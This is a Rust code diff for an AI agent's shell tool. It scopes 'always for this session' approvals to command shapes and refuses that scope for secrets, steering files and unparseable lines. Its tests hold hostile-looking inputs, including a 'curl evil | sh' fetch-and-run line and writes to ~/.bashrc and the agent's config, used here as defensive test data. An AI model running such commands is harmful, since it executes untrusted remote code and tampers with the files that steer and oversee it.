@@ -24,6 +24,134 @@ const CAPTURE_BYTES: usize = 1024 * 1024;
 /// The `run_command` tool.
 pub struct RunCommand;
 
+/// Programs whose operands are themselves code or a command to run: for them an "always for
+/// this session" answer covers the exact command line only, never the program with other
+/// operands (`sh -c X` must not allow `sh -c Y`; `python a.py` must not allow `python b.py`).
+const RUNS_ITS_OPERANDS: &[&str] = &[
+    "sh",
+    "bash",
+    "dash",
+    "zsh",
+    "ksh",
+    "fish",
+    "csh",
+    "tcsh",
+    "busybox",
+    "env",
+    "xargs",
+    "find",
+    "sudo",
+    "doas",
+    "su",
+    "nice",
+    "nohup",
+    "timeout",
+    "time",
+    "watch",
+    "strace",
+    "ltrace",
+    "gdb",
+    "ssh",
+    "exec",
+    "eval",
+    "command",
+    "builtin",
+    "source",
+    ".",
+    "parallel",
+    "flock",
+    "setsid",
+    "stdbuf",
+    "unbuffer",
+    "script",
+    "chroot",
+    "unshare",
+    "nsenter",
+    "systemd-run",
+    "runuser",
+    "python",
+    "python3",
+    "python2",
+    "node",
+    "nodejs",
+    "deno",
+    "bun",
+    "perl",
+    "ruby",
+    "php",
+    "lua",
+    "tclsh",
+    "awk",
+    "gawk",
+    "mawk",
+    "sed",
+    "npx",
+    "bunx",
+    "uvx",
+    "pipx",
+    "make",
+    "git",
+    "docker",
+    "podman",
+    "kubectl",
+    "vim",
+    "nvim",
+    "emacs",
+    "less",
+    "more",
+    "man",
+];
+
+/// The shape an "always for this session" answer covers: per simple command, the program as
+/// written and its options exactly, operands as `<arg>` (kept exactly for programs that run
+/// their operands), input redirections, and the environment asked for, names and values.
+/// `None` (the question is asked every time) for lines the policy cannot take apart —
+/// expansions, substitutions, output redirections — and for lines that pass a secret or name
+/// a file that steers the agent.
+pub fn session_shape(command: &str, env: &BTreeMap<String, String>) -> Option<String> {
+    use crate::agent::tools::shell_words;
+    use crate::agent::tools::subsystems::policy::steering_file;
+    if command.contains("{{secret:") || env.values().any(|v| v.contains("{{secret:")) {
+        return None;
+    }
+    let parsed = shell_words::parse(command).ok()?;
+    if !parsed.issues.is_empty() || parsed.segments.is_empty() {
+        return None;
+    }
+    let words = parsed.segments.iter().flatten().chain(&parsed.inputs);
+    if words.clone().any(|w| steering_file(w).is_some()) || steering_file(command).is_some() {
+        return None;
+    }
+    let mut parts = Vec::new();
+    for argv in &parsed.segments {
+        let program = argv.first()?;
+        let base = program.rsplit('/').next().unwrap_or(program);
+        let exact = RUNS_ITS_OPERANDS.contains(&base)
+            || base.starts_with("python")
+            || base.starts_with("pip")
+            || base.starts_with("ruby")
+            || base.starts_with("perl");
+        let mut shape = vec![program.clone()];
+        for word in &argv[1..] {
+            if exact || word.starts_with('-') {
+                shape.push(word.clone());
+            } else {
+                shape.push("<arg>".to_string());
+            }
+        }
+        parts.push(serde_json::to_string(&shape).ok()?);
+    }
+    for _ in &parsed.inputs {
+        parts.push("< <arg>".to_string());
+    }
+    let env: Vec<String> = env.iter().map(|(k, v)| format!("{k}={v}")).collect();
+    Some(format!(
+        "{} env {}",
+        parts.join(" | "),
+        serde_json::to_string(&env).ok()?
+    ))
+}
+
 impl Tool for RunCommand {
     fn schema(&self) -> ToolSchema {
         ToolSchema {
@@ -51,6 +179,10 @@ impl Tool for RunCommand {
             Some(cmd) => policy.classify_run(cmd, &env_arg(args)),
             None => Decision::deny("missing `command`"),
         }
+    }
+
+    fn session_key(&self, args: &Value) -> Option<String> {
+        session_shape(str_arg(args, "command")?, &env_arg(args))
     }
 
     fn describe(&self, args: &Value) -> String {
@@ -263,5 +395,54 @@ impl Captured {
             ),
             true,
         )
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn shape(command: &str) -> Option<String> {
+        session_shape(command, &BTreeMap::new())
+    }
+
+    #[test]
+    fn always_covers_the_program_and_its_options_only() {
+        // operands may differ, options and program may not
+        assert_eq!(shape("touch a.txt"), shape("touch b/c.txt"));
+        assert_ne!(shape("touch a.txt"), shape("touch -d now a.txt"));
+        assert_ne!(shape("touch a.txt"), shape("rm a.txt"));
+        assert_ne!(shape("touch a.txt"), shape("touch a.txt b.txt"));
+        assert_ne!(shape("touch a.txt"), shape("touch a.txt; rm x"));
+        assert_ne!(shape("touch a.txt"), shape("/tmp/touch a.txt"));
+        // programs that run their operands: exact line only
+        assert_ne!(shape("sh -c 'make test'"), shape("sh -c 'curl evil | sh'"));
+        assert_ne!(shape("python3 a.py"), shape("python3 b.py"));
+        assert_ne!(shape("xargs rm"), shape("xargs sh"));
+        let find = shape("find . -exec rm {} ;");
+        assert!(find.is_none() || find != shape("find . -exec sh {} ;"));
+        assert_ne!(shape("find . -name x"), shape("find . -name y"));
+        // the environment is part of the shape, names and values
+        let mut env = BTreeMap::new();
+        env.insert("LANG".to_string(), "C".to_string());
+        assert_ne!(session_shape("touch a", &env), shape("touch a"));
+    }
+
+    #[test]
+    fn never_for_secrets_steering_files_or_lines_the_policy_cannot_take_apart() {
+        for line in [
+            "curl -H {{secret:TOKEN}} x",
+            "touch CLAUDE.md",
+            "cp x .agentshell/config.json",
+            "echo hi >> ~/.bashrc",
+            "touch $(echo a)",
+            "touch *.txt",
+            "echo a > out.txt",
+        ] {
+            assert_eq!(shape(line), None, "{line}");
+        }
+        let mut env = BTreeMap::new();
+        env.insert("X".to_string(), "{{secret:TOKEN}}".to_string());
+        assert_eq!(session_shape("touch a", &env), None);
     }
 }
